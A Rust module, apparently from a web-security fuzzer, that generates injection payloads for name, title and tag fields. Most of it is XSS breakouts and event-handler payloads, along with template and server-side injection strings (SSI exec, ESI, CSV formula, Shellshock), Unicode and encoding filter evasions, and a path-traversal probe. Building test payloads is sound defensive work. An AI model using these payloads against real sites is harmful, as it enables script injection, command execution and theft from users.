//! Short texts, for names, titles, tags and addresses: what breaks out of an attribute or an element, what a template
//! or a script library would take for its own, and characters that are not what they seem.

use super::{Mark, Payloads};

/// Ends of what a text may stand in.
const WAYS_OUT: [&str; 20] = [
    "\">",
    "'>",
    ">",
    "\"/>",
    "\" ",
    "' ",
    "` ",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "\\\">",
    "&quot;>",
    "&#34;>",
    "</h1>",
    "</option></select>",
    "\n\n\">",
    "\u{2028}'>",
];

const LIVE: [fn(&Mark<'_>) -> String; 9] = [
    |mark| mark.image(),
    |mark| format!("<svg/onload={}>", mark.run()),
    |mark| format!("<script>{}</script>", mark.run()),
    |mark| format!("onfocus={} autofocus x=", mark.run()),
    |mark| format!("onmouseover=\"{}", mark.run()),
    |mark| format!("style=x:expression({})", mark.run()),
    |mark| format!("<a href=javascript:{}>", mark.run()),
    |mark| format!("&lt;img src=x:x onerror={}&gt;", mark.run()),
    |mark| format!("%3Csvg%20onload%3D{}%3E", mark.run()),
];

/// `@` stands for what is to run.
const TEMPLATES: [&str; 46] = [
    "{{@}}",
    "{{constructor.constructor('@')()}}",
    "{{ '@' | safe }}",
    "{% raw %}<svg onload=@>{% endraw %}",
    "{{{<svg onload=@>}}}",
    "{{= @ }}",
    "{{< raw >}}<svg onload=@>{{< /raw >}}",
    "${@}",
    "#{@}",
    "<%= @ %>",
    "<%- @ -%>",
    "<? @ ?>",
    "<#-- --><#assign x=@>",
    "[[@]]",
    "[[${@}]]",
    "*{@}",
    "@{@}",
    "$(@)",
    "`@`",
    "');@//",
    "\");@//",
    "\\');@//",
    "';@;'",
    "-@-",
    "</script><script>@",
    "<p ng-app ng-csp>{{@}}</p>",
    "<p ng-init=@>x</p>",
    "<p v-on:click=@ v-html=@>x</p>",
    "<p @click=@ @mouseover.once=@>x</p>",
    "<p x-data x-init=@>x</p>",
    "<p x-on:load.window=@>x</p>",
    "<p hx-get=/ hx-trigger=load hx-on::load=@>x</p>",
    "<p data-hx-on:load=@>x</p>",
    "<p data-bind=\"click:@\">x</p>",
    "<p data-action=@ data-controller=x>x</p>",
    "<p data-bs-toggle=tooltip data-bs-html=true title=\"<svg onload=@>\">x</p>",
    "<p is=\"x\" slot=\"x\" part=\"x\" nonce=x onx=@>x</p>",
    "<p popover popovertarget=x id=x onbeforetoggle=@>x</p>",
    "<button command=show-modal commandfor=x onclick=@>x</button>",
    "<amp-img on=\"tap:@\">",
    "<!--#exec cmd=\"@\"-->",
    "<esi:include src=/@ />",
    "<c:out value='${@}'/>",
    "<xsl:value-of select=\"@\"/>",
    "=cmd|'@'!A1",
    "() { :;}; @",
];

/// `@` stands for what is to run.
const CHARACTERS: [&str; 40] = [
    "\u{ff1c}svg onload=@\u{ff1e}",
    "\u{2039}script\u{203a}@",
    "\u{3008}img src=x onerror=@\u{3009}",
    "<\u{200b}svg onload=@>",
    "<svg\u{200b} onload=@>",
    "<svg \u{200d}onload=@>",
    "<svg\u{a0}onload=@>",
    "<svg\u{85}onload=@>",
    "<svg\u{3000}onload=@>",
    "<svg\u{2028}onload=@>",
    "<s\u{0131}g onload=@>",
    "<\u{17f}cript>@</\u{17f}cript>",
    "<scr\u{0130}pt>@</scr\u{0130}pt>",
    "<\u{feff}script>@</script>",
    "<script\u{feff}>@</script>",
    "<img src=x:x o\u{ad}nerror=@>",
    "<img src=x:x \u{1d5c8}nerror=@>",
    "<img src=x:x onerror\u{ff1d}@>",
    "\u{202e}>@=rorreno x:x=crs gmi<",
    "\u{2066}<svg onload=@>\u{2069}",
    "\u{200f}\u{200e}<svg onload=@>",
    "&#0;<svg onload=@>",
    "&#1;&#8;&#11;&#31;&#127;&#159; @",
    "&#xfffe;&#xffff;&#x1ffff; @",
    "\u{fffe}\u{ffff} @",
    "&#xd800;&#xdfff; @",
    "&#x110000;&#xffffffff; @",
    "&lt&lt;svg onload=@&gt&gt;",
    "&LT;svg onload=@&GT;",
    "&amp;lt;svg onload=@&amp;gt;",
    "&nvlt;svg onload=@&nvgt;",
    "&#60svg onload=@&#62",
    "&#x3C;&#x73;vg onload=@&#x3E;",
    "%253Csvg onload=@%253E",
    "\\u003csvg onload=@\\u003e",
    "\\x3csvg onload=@\\x3e",
    "+ADw-svg onload=@+AD4-",
    "\u{1b}$B<svg onload=@>",
    "e\u{301}\u{301}\u{301}\u{301}<svg onload=@>\u{34f}",
    "\u{e0001}\u{e0073}\u{e007f}<svg onload=@>",
];

pub(super) fn add(payloads: &mut Payloads) {
    for way_out in WAYS_OUT {
        for live in LIVE {
            payloads.add("way out", |mark| format!("{way_out}{}", live(mark)));
        }
    }
    for template in TEMPLATES {
        payloads.add("template", |mark| replaced(template, &mark.run()));
    }
    for template in CHARACTERS {
        payloads.add("character", |mark| replaced(template, &mark.run()));
    }
    for honest in
        ["null", "undefined", "NaN", "<3", "a < b > c & d", "O'Neil \"x\"", "../../etc/passwd", "CON", "%00"]
    {
        payloads.add("honest", |mark| format!("{honest} {}", mark.run()));
    }
}

/// `@click` and `@{` are themselves.
fn replaced(template: &str, run: &str) -> String {
    let own =
        template.replace("@click", "\u{0}click").replace("@mouse", "\u{0}mouse").replace("@{", "\u{0}{");
    own.replace('@', run).replace('\u{0}', "@")
}
